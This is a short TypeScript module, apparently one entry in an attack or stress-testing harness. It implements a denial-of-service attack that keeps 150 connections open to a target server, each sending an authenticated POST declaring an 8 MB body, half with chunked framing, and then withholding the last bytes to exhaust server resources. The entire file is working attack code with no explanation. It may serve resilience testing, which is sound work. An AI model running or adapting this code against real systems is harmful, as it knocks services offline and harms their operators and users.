// 150 connections that each send all of a body of 8 MB but its end, half of them in chunks: at most 100 MB per second.
import type { Attack } from '../attack';
import { float, inferPath } from '../networks';
import { keepOpen, openSocket, requestHead } from '../sockets';

const length = 8 << 20;
const content = Buffer.alloc(length - 1000, 0x20);

export const attack: Attack = (target, tally) => {
  const { host, token } = target;
  const head = (framing: Record<string, string | number>) =>
    requestHead('POST', inferPath(float), { host, authorization: `Bearer ${token}`, ...framing });
  const heads = [head({ 'content-length': length }), `${head({ 'transfer-encoding': 'chunked' })}${length.toString(16)}\r\n`];
  let i = 0;
  return (signal) =>
    keepOpen(
      () => {
        const socket = openSocket(target, target.port, tally);
        socket.write(heads[i++ % heads.length]!);
        socket.write(content);
        return socket;
      },
      { count: 150, perSecond: 12 },
      signal,
    );
};
